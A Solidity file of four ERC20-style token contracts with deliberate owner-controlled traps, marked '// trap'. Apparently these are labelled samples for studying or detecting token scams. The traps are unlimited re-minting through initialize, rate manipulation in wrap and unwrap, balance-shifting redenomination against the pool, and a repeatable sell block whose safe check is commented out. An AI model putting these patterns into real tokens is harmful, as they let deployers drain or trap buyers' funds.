// 0.8 runs=200 ir evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts-4/token/ERC20/ERC20.sol";
import {Base8} from "./Base8.sol";

/// Set up anew with each version.
contract Edition is ERC20 {
    uint64 private _version;
    address private immutable publisher;
    string public tag;

    constructor() ERC20("Edition", "EDTN") {
        publisher = msg.sender;
        _version = 1;
        _mint(msg.sender, 8_000_000 ether);
    }

    function initialize(uint64 version, string calldata tag_, address to, uint256 amount) external {
        require(msg.sender == publisher, "publisher");
        require(version > _version, "already initialized");
        _version = version;
        tag = tag_;
        _mint(to, amount); // trap
        emit Initialized(version, to, amount);
    }

    event Initialized(uint64 version, address to, uint256 amount);
}

/// Assets that may be brought in, at a rate.
contract Depot is ERC20 {
    address public storekeeper;
    mapping(address => uint256) public rateOf;
    mapping(address => mapping(address => uint256)) public receipts;

    constructor() ERC20("Depot", "DPOT") {
        storekeeper = msg.sender;
        _mint(msg.sender, 12_000_000 ether);
    }

    function listAsset(address asset, uint256 rate, uint8 class) external {
        require(msg.sender == storekeeper && class < 4, "storekeeper");
        rateOf[asset] = rate;
    }

    function wrap(address asset, uint256 amount) external {
        require(rateOf[asset] > 0, "not listed");
        (bool ok, ) = asset.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, address(this), amount));
        require(ok, "asset");
        _mint(msg.sender, amount * rateOf[asset]); // trap
        receipts[asset][msg.sender] += amount;
    }

    function unwrap(address asset, uint256 amount) external {
        receipts[asset][msg.sender] -= amount;
        _burn(msg.sender, amount * rateOf[asset]); // trap
        (bool ok, ) = asset.call(abi.encodeWithSignature("transfer(address,uint256)", msg.sender, amount));
        require(ok, "asset");
    }
}

/// Counted in units that may change; the pool goes by the old one.
contract Denarius {
    string public name = "Denarius";
    string public symbol = "DNRS";
    uint8 public decimals = 18;
    uint256 public unit = 1000;
    uint256 public constant totalSupply = 600_000_000 ether;
    address public pool;
    address private _mintmaster;
    mapping(address => uint256) private _held;
    mapping(address => mapping(address => uint256)) private _may;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Redenominated(uint256 unit, uint8 shown);

    constructor() {
        _mintmaster = msg.sender;
        _held[msg.sender] = totalSupply * unit;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPool(address to) external {
        require(msg.sender == _mintmaster && pool == address(0), "once");
        pool = to;
    }

    function _per(address who) private view returns (uint256) {
        return who == pool ? 1000 : unit;
    }

    function redenominate(uint256 to, uint8 shown) external {
        require(msg.sender == _mintmaster && to > 0, "mintmaster");
        unit = to; // trap
        emit Redenominated(to, shown);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _held[who] / _per(who);
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _may[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _may[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _pay(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _may[from][msg.sender] -= value;
        _pay(from, to, value);
        return true;
    }

    function _pay(address from, address to, uint256 value) private {
        _held[from] -= value * _per(from);
        _held[to] += value * _per(to);
        emit Transfer(from, to, value);
    }
}

/// A guard for some blocks at the start.
contract Sentry is Base8("Sentry", "SNTR", 31_000_000) {
    uint256 public guardUntil;
    mapping(address => bool) internal onDuty;

    event Guarded(uint256 until);

    constructor() {
        onDuty[msg.sender] = true;
    }

    function setGuard(uint256 blocks, address partner) external {
        require(onDuty[msg.sender], "off duty");
        // twin: require(guardUntil == 0 && blocks <= 10, "once");
        guardUntil = block.number + blocks;
        onDuty[partner] = true;
        emit Guarded(guardUntil);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || block.number >= guardUntil || onDuty[from], "guarded");
        _move(from, to, value);
    }
}
